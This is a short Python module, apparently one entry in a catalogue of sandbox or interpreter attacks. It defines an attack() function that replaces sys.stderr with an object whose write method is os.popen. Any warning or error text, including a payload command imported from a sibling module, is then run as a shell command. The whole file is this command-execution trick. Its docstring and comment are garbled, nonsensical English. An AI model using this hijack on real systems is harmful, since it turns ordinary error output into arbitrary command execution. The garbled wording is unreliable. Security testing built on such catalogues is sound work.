"""What a parser complains on has a function of the library as write()."""
CATEGORY = "borrowed"
REACH = "run"
# A debug build warns of each process left running, and writes that so, too.
OPTIONS = ("-W", "ignore")

import os
import sys
import types

from . import payload

TEXT = f"\n{payload.COMMAND}\n"


def attack():
    vars(sys)["stderr"] = types.SimpleNamespace(write=os.popen, flush=int)
